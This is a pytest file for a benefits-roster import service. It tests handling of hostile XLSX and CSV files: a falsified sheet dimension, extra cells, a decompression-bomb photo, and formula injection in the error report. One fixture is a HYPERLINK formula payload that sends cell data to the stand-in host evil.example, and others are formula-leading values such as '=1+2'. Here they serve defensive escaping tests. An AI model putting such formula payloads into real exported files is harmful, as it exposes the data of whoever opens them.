"""Roster import against hostile files (issue 16, finding 10), on SQLite and PostgreSQL.

Before: an XLSX whose ``<dimension>`` declared fewer rows than it held imported "0 rows OK" and exited
0 (openpyxl's read-only mode trusts the element); rows with values beyond the named columns were taken
silently; the error report wrote ``=HYPERLINK(...)`` and friends unescaped for Excel to run."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa

from api.beneficiaries.models import Beneficiary
from api.cli import main as cli_main
from api.core import csv_safe
from api.roster.report import write_error_report
from api.roster.rows import RowError
from api.roster.service import import_roster
from shared.idnumber import make_id_number
from tests.api.factories import ensure_regions
from tests.shared_data import REPO_ROOT

_seq = iter(range(1000))
HEADER = ["id_number", "name", "region_code", "benefit_type", "monthly_amount"]


def new_id() -> str:
    return make_id_number("110101", date(1953, 6, 1), next(_seq))


@pytest.fixture(scope="module", autouse=True)
def regions(module_engine) -> None:
    """The region tree in the module's database, which every test's database is copied from."""
    from api.core.db import make_sessionmaker

    with make_sessionmaker(module_engine)() as s:
        ensure_regions(s)
        s.commit()


def _xlsx(path: Path, rows: list[list[object]], *, declared: str | None = None) -> Path:
    """Write an XLSX; ``declared`` replaces the sheet's <dimension ref="..."> (as a hostile tool may)."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for r in rows:
        ws.append(r)
    wb.save(path)
    if declared is not None:
        with zipfile.ZipFile(path) as z:
            parts = {n: z.read(n) for n in z.namelist()}
        sheet = parts["xl/worksheets/sheet1.xml"].decode()
        sheet, n = re.subn(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{declared}"/>', sheet)
        assert n == 1
        parts["xl/worksheets/sheet1.xml"] = sheet.encode()
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in parts.items():
                z.writestr(name, data)
    return path


def _people(session, numbers: list[str]) -> int:
    session.expire_all()
    return session.execute(
        sa.select(sa.func.count()).select_from(Beneficiary).where(Beneficiary.id_number.in_(numbers))
    ).scalar_one()


def test_an_xlsx_declaring_a_smaller_dimension_is_read_whole(engine, session, tmp_path) -> None:
    numbers = [new_id() for _ in range(5)]
    rows = [[n, "李四", "110101", "enterprise_pension", "2000"] for n in numbers]
    path = _xlsx(tmp_path / "short_dim.xlsx", rows, declared="A1:E1")
    from openpyxl import load_workbook

    assert load_workbook(path, read_only=True).worksheets[0].max_row == 1  # the lie is in the file
    report = import_roster(engine, path)
    assert report.imported and report.rows == 5 and report.beneficiaries == 5
    assert _people(session, numbers) == 5


def test_an_xlsx_row_with_a_value_beyond_the_columns_is_refused(engine, session, tmp_path) -> None:
    good, shifted = new_id(), new_id()
    rows = [
        [good, "王五", "110101", "enterprise_pension", "2000"],
        [shifted, "赵六", "110101", "enterprise_pension", "2000", "13800000000"],
    ]
    path = _xlsx(tmp_path / "extra.xlsx", rows, declared="A1:E3")  # the extra cell is outside it too
    report = import_roster(engine, path)
    assert not report.imported
    assert [(e.row, e.column) for e in report.errors] == [(3, "(extra cells)")]
    assert "outside the named columns" in report.errors[0].message
    assert _people(session, [good, shifted]) == 0  # all or nothing


def test_a_csv_row_with_extra_values_is_refused_and_trailing_blanks_are_fine(
    engine, session, tmp_path
) -> None:
    a, b, c = new_id(), new_id(), new_id()
    path = tmp_path / "extra.csv"
    path.write_text(
        ",".join(HEADER)
        + "\n"
        + f"{a},甲,110101,enterprise_pension,2000,,\n"  # empty trailing cells: Excel writes those
        + f"{b},乙,110101,enterprise_pension,2000,surprise\n"
        + f"{c},丙,110101,enterprise_pension,2000\n",
        encoding="utf-8",
    )
    report = import_roster(engine, path)
    assert [(e.row, e.column, e.value) for e in report.errors] == [(3, "(extra cells)", "surprise")]
    assert not report.imported and _people(session, [a, b, c]) == 0


def test_a_value_under_an_unnamed_column_is_refused(engine, tmp_path) -> None:
    path = tmp_path / "gap.csv"
    path.write_text(
        "id_number,name,,region_code,benefit_type,monthly_amount\n"
        f"{new_id()},丁,hidden,110101,enterprise_pension,2000\n",
        encoding="utf-8",
    )
    report = import_roster(engine, path)
    assert [(e.row, e.column, e.value) for e in report.errors] == [(2, "(extra cells)", "hidden")]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_the_error_report_escapes_formula_leading_values(tmp_path, lead: str) -> None:
    payload = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
    path = tmp_path / "r.errors.csv"
    write_error_report([RowError(2, "name", payload, "bad name")], path)
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1][2] == "'" + payload
    assert not any(cell.startswith(csv_safe.FORMULA_LEADS) for row in rows for cell in row)


def test_the_cli_report_of_a_hostile_roster_is_safe_to_open(db_url, tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.setenv("LIFECERT_DATABASE_URL", db_url)
    path = tmp_path / "hostile.csv"
    path.write_text(
        ",".join(HEADER) + "\n" + f'{new_id()},"=1+2",110101,enterprise_pension,@SUM(1)\n', encoding="utf-8"
    )
    assert cli_main(["roster", "import", str(path), "--quiet"]) == 1
    capsys.readouterr()
    text = (tmp_path / "hostile.errors.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=1+2" in cells or "'@SUM(1)" in cells
    assert not any(cell.startswith(csv_safe.FORMULA_LEADS) for cell in cells)


def test_numbers_are_not_escaped() -> None:
    out = io.StringIO()
    csv_safe.writer(out).writerow([-5, -1.5, "-", "ok", None])
    assert out.getvalue().strip() == "-5,-1.5,'-,ok,"


# CSV written in memory for a parser, never a file a person opens (escaping would change the data).
IN_MEMORY_CSV = {
    "api/comparison/batches.py": "a feed batch's JSON rows as the CSV text the feed reader parses",
}


def test_every_csv_the_service_writes_goes_through_csv_safe() -> None:
    offenders = []
    for package in ("api", "app", "shared", "face"):
        for path in (REPO_ROOT / package).rglob("*.py"):
            relative = path.relative_to(REPO_ROOT).as_posix()
            if relative == "api/core/csv_safe.py" or relative in IN_MEMORY_CSV:
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"\bcsv\.(writer|DictWriter)\s*\(", text):
                offenders.append(str(path.relative_to(REPO_ROOT)))
    assert not offenders, f"write CSV with api.core.csv_safe.writer: {offenders}"


def test_a_bomb_among_the_roster_photos_is_refused_from_its_header(engine, session, tmp_path) -> None:
    from tests.api import intake_samples as samples

    number = new_id()
    path = tmp_path / "with_photo.csv"
    path.write_text(",".join(HEADER) + f"\n{number},戊,110101,enterprise_pension,2000\n", encoding="utf-8")
    photos = tmp_path / "photos"
    photos.mkdir()
    (photos / f"{number}.jpg").write_bytes(samples.jpeg_claiming(32000, 32000))
    report = import_roster(engine, path, photos_dir=photos)
    assert not report.imported
    assert [(e.column, e.value) for e in report.errors] == [("photo", f"{number}.jpg")]
    assert "too many pixels" in report.errors[0].message
    assert _people(session, [number]) == 0
